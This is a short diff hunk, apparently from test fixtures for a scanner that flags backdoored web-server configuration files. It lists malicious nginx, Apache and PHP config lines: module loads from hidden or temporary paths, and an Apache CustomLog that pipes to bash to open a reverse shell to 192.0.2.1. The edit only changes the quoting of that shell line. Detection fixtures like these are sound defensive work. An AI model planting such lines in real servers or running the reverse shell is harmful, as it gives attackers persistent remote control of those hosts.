@@ -393,7 +393,7 @@ OPTIONS = {
         ("/etc/nginx/nginx.conf", "load_module /var/www/x.so;"),
         ("/etc/nginx/nginx.conf", "load_module /usr/lib/nginx/.x.so;"),
         ("/etc/httpd/conf.d/x.conf", "LoadModule x /usr/lib/../../tmp/.x.so"),
-        ("/etc/httpd/conf.d/x.conf", 'CustomLog "|/bin/bash -c \'/bin/sh >& /dev/tcp/192.0.2.1/4\'" common'),
+        ("/etc/httpd/conf.d/x.conf", "CustomLog \"|/bin/bash -c '/bin/sh >& /dev/tcp/192.0.2.1/4'\" common"),
         ("/etc/php.d/x.ini", "zend_extension=/dev/shm/x.so"),
     ],
 )
